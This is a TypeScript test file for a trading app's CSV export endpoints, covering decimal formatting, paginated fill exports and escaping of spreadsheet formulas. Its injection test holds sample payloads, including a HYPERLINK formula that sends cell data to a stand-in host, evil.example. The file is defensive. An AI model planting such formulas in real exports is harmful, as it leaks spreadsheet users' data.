/**
 * CSV exports: a header row, exact decimal amounts (never float noise), grouped daily rows, and
 * fills streamed across as many pages as there are.
 */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { numberCell, textCell } from '../../src-shared/csv-cells.ts';
import type { ApiFill } from '../../src-shared/schemas.ts';
import { buildServerApp } from '../../src-main/server/app.ts';
import { DAILY_CSV_COLUMNS, FILLS_CSV_COLUMNS, usdToDecimalString } from '../../src-main/server/csv-export.ts';
import { FakeApi } from './fake-api.ts';
import { httpCall, TEST_TOKEN } from './harness.ts';

function fakeFill(i: number): ApiFill {
  return {
    id: String(i), accountId: 'acc_1', exchange: 'bybit', tradeId: `t${i}`, orderId: i % 2 ? null : `o${i}`,
    symbol: i === 0 ? 'ODD,"SYMBOL"' : 'BTCUSDT', side: i % 2 ? 'buy' : 'sell', price: '64000.5', qty: '0.003',
    notionalUsd: 192.0015, fee: i === 7 ? '0.5' : '-0.0384', feeCurrency: i === 7 ? 'DIME' : 'USDT', feeUsd: i === 7 ? null : -0.0384,
    liquidity: i % 3 ? 'taker' : null, ts: 1_760_000_000_000 + i, kind: i === 4 ? 'dated_future' : 'perpetual', underlying: 'BTC',
  };
}

async function serve(api: FakeApi) {
  const app = await buildServerApp(api, { token: TEST_TOKEN, staticDir: null });
  const url = await app.listen({ host: '127.0.0.1', port: 0 });
  return { url, close: () => app.close() };
}

describe('CSV exports', () => {
  test('USD numbers become exact 6-decimal strings', () => {
    assert.equal(usdToDecimalString(0.1 + 0.2), '0.300000');
    assert.equal(usdToDecimalString(-0.000001), '-0.000001');
    assert.equal(usdToDecimalString(192.0015), '192.001500');
    // The service's numbers are micros / 1e6; they round-trip exactly up to 8 billion USD per value.
    assert.equal(usdToDecimalString(7_999_999_999_999_999 / 1e6), '7999999999.999999');
    assert.equal(usdToDecimalString(-123_456_789 / 1e6), '-123.456789');
    assert.equal(usdToDecimalString(0), '0.000000');
  });

  test('daily.csv has a header and one row per day, or per day and group with groupBy', async () => {
    const server = await serve(new FakeApi());
    try {
      const plain = await httpCall(server.url, 'GET', '/api/v1/export/daily.csv?from=2026-01-30&to=2026-02-02');
      assert.equal(plain.status, 200);
      assert.match(String(plain.headers['content-disposition']), /attachment; filename="perpvol-daily-2026-01-30-2026-02-02\.csv"/);
      const lines = plain.text.trim().split('\n');
      assert.equal(lines[0], DAILY_CSV_COLUMNS.join(','));
      assert.equal(lines.length, 5);
      assert.equal(lines[1], '2026-01-30,,,0.300000,0.000000,0.300000,-0.000001,1,perpetual');
      const both = await httpCall(server.url, 'GET', '/api/v1/export/daily.csv?from=2026-01-30&to=2026-01-30&kinds=perpetual,dated_future');
      assert.equal(both.text.trim().split('\n')[1], '2026-01-30,,,0.300000,0.000000,0.300000,-0.000001,1,perpetual+dated_future');
      const badKinds = await httpCall(server.url, 'GET', '/api/v1/export/daily.csv?from=2026-01-30&to=2026-01-30&kinds=spot');
      assert.equal(badKinds.status, 400);
      assert.match(badKinds.json.error.message, /perpetual, dated_future/);
      const grouped = parse((await httpCall(server.url, 'GET', '/api/v1/export/daily.csv?from=2026-01-30&to=2026-02-02&groupBy=exchange')).text, { columns: true }) as Record<string, string>[];
      assert.equal(grouped.length, 4);
      assert.deepEqual(new Set(grouped.map((row) => `${row.key}/${row.label}`)), new Set(['bybit/Bybit']));
      const bad = await httpCall(server.url, 'GET', '/api/v1/export/daily.csv?from=2026-01-30');
      assert.equal(bad.status, 400);
      assert.match(bad.json.error.message, /`to`/);
    } finally {
      await server.close();
    }
  });

  test('fills.csv streams every page with quoting where needed', async () => {
    const api = new FakeApi();
    api.fills = Array.from({ length: 2_345 }, (_, i) => fakeFill(i));
    const server = await serve(api);
    try {
      const answer = await httpCall(server.url, 'GET', '/api/v1/export/fills.csv');
      assert.equal(answer.status, 200);
      assert.equal(answer.text.split('\n')[0], FILLS_CSV_COLUMNS.join(','));
      const rows = parse(answer.text, { columns: true }) as Record<string, string>[];
      assert.equal(rows.length, 2_345);
      assert.equal(rows[0]!.symbol, 'ODD,"SYMBOL"');
      assert.equal(rows[0]!.order_id, 'o0');
      assert.equal(rows[1]!.order_id, '');
      assert.equal(rows[5]!.notional_usd, '192.001500');
      assert.equal(rows[5]!.fee_usd, '-0.038400');
      assert.equal(rows[5]!.time, new Date(1_760_000_000_005).toISOString());
      assert.deepEqual([rows[5]!.kind, rows[5]!.underlying, rows[4]!.kind], ['perpetual', 'BTC', 'dated_future']);
      assert.deepEqual([rows[7]!.fee, rows[7]!.fee_currency, rows[7]!.fee_usd], ['0.5', 'DIME', ''], 'an unpriced fee has an empty fee_usd');
    } finally {
      await server.close();
    }
  });

  test('text cells a spreadsheet would run as a formula get a leading apostrophe; numbers, negative ones too, stay numbers', async () => {
    const api = new FakeApi();
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)', '\tcmd', '\rcmd', '\uFF1D1+1'];
    api.fills = formulas.map((symbol, i) => ({ ...fakeFill(i + 1), symbol, tradeId: symbol, fee: '-0.0384', feeUsd: -0.0384, feeCurrency: i === 0 ? '=1' : 'USDT' }));
    api.dailyVolume = async (query) => {
      const day = { date: query.from, volumeUsd: 12.5, makerVolumeUsd: 0, takerVolumeUsd: 12.5, feesUsd: -12.5, trades: 1 };
      return { from: query.from, to: query.from, currency: 'USD' as const, kinds: ['perpetual' as const], total: [day], series: formulas.map((label, i) => ({ key: `acc_${i}`, label, days: [day] })) };
    };
    const server = await serve(api);
    try {
      const fills = parse((await httpCall(server.url, 'GET', '/api/v1/export/fills.csv')).text, { columns: true }) as Record<string, string>[];
      assert.deepEqual(fills.map((row) => row.symbol), formulas.map((f) => `'${f}`));
      assert.deepEqual(fills.map((row) => row.trade_id), formulas.map((f) => `'${f}`));
      assert.equal(fills[0]!.fee_currency, "'=1");
      for (const row of fills) {
        assert.equal(row.fee, '-0.0384', 'a negative amount is a number, not a formula');
        assert.equal(row.fee_usd, '-0.038400');
        assert.equal(row.price, '64000.5');
      }
      const daily = parse((await httpCall(server.url, 'GET', '/api/v1/export/daily.csv?from=2026-01-30&to=2026-01-30&groupBy=account')).text, { columns: true }) as Record<string, string>[];
      assert.deepEqual(daily.map((row) => row.label), formulas.map((f) => `'${f}`));
      assert.deepEqual(daily.map((row) => row.fees_usd), formulas.map(() => '-12.500000'));
      assert.deepEqual(daily.map((row) => row.key), formulas.map((_, i) => `acc_${i}`), 'ordinary text is untouched');
    } finally {
      await server.close();
    }
  });
});

describe('spreadsheet-safe cells', () => {
  test('text starting with = + - @ tab or CR (or their full-width forms) is prefixed; other text is not', () => {
    for (const text of ['=1', '+1', '-1', '@a', '\t1', '\r1', '\uFF1D1', '\uFF0B1', '\uFF0D1', '\uFF20a']) assert.equal(textCell(text), `'${text}`, JSON.stringify(text));
    for (const text of ['', 'BTCUSDT', "'=1", ' =1', 'a=1', '1-1', 'PURR/USDC']) assert.equal(textCell(text), text, JSON.stringify(text));
  });

  test('plain decimals in number columns stay as they are; anything else there is treated as text', () => {
    for (const number of ['0', '-12.5', '64000.50', '-0.000001', '1767323045000']) assert.equal(numberCell(number), number);
    assert.equal(numberCell('-1+2'), "'-1+2");
    assert.equal(numberCell('=1'), "'=1");
    assert.equal(numberCell('1e5'), '1e5');
  });
});
